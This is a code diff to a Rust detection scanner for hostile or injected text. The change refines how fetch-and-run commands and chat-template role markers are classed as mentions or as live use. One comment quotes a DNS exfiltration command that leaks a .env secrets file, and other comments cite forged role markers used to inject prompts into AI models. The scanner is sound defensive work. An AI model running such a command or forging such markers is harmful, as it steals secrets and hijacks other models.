@@ -128,7 +128,7 @@ pub const RULES: &[(&str, Verdict)] = &[
 
 /// Changes whenever the rules or their tables change, so that verdicts cached under an older
 /// scanner (the gate cache, `memory::cache::gate`) are recomputed.
-pub const RULES_VERSION: u32 = 15;
+pub const RULES_VERSION: u32 = 16;
 
 /// At most this many issues are kept per rule (the first found): enough to act on, and a
 /// hostile text full of matches cannot make the report itself huge.
@@ -179,8 +179,13 @@ pub fn scan_text(text: &str) -> Vec<Issue> {
         {
             i.rule = "quoted-instruction";
             i.verdict = Verdict::Suspicious;
-        } else if COMMANDS.contains(&i.rule) && !ordered && in_code_span_in_sentence(text, i.offset)
+        } else if COMMANDS.contains(&i.rule)
+            && !ordered
+            && (in_code_span_in_sentence(text, i.offset)
+                || i.rule == "remote-script-execution"
+                    && downloads::installer_shaped(text.get(i.offset..).unwrap_or_default()))
         {
+            // (And a vendor's install one-liner with no order to run it: a set-up note.)
             // A fetch-and-run shown in a write-up keeps its name; the other commands are
             // quoted ("the attacker added `nslookup $(cat .env).x` to the build").
             i.rule = if i.rule == "remote-script-execution" {
@@ -249,10 +254,29 @@ fn mentioned(text: &str, offset: usize) -> bool {
         .unwrap_or("");
     let cited = !last_word.is_empty()
         && vocab::vocabulary().lookup(last_word.as_bytes()).cues & vocab::cue("cite") != 0;
+    // Naming a role in the middle of a sentence that goes on after it on the same line
+    // ("Llama 3 uses <|start_header_id|>system<|end_header_id|> and <|eot_id|>", "伪造了
+    // <|im_start|>system 标记"): a glossary or a review naming the marker. One in use ends
+    // its line, or a sentence ends before it.
+    let goes_on = || {
+        let role = after
+            .find(|c: char| !c.is_ascii_alphabetic())
+            .unwrap_or(after.len());
+        let tail = after[role..].split('\n').next().unwrap_or("");
+        let tail = match tail.trim_start().strip_prefix(['<', '[']) {
+            Some(t) => t.find(['>', ']']).map_or("", |p| &t[p + 1..]),
+            None => tail,
+        };
+        tail.trim_start()
+            .chars()
+            .next()
+            .is_some_and(|c| c.is_alphanumeric() || c == ',')
+    };
     enclosed(text, offset, &QUOTES)
         || enclosed(text, offset, &brackets)
         || (cited && !ours)
         || (!names_role && (quoted || (mid_sentence && !ours)))
+        || (names_role && mid_sentence && !ours && goes_on())
 }
 
 /// Phrase rules whose match inside quotes on its line is a mention (a write-up quoting an
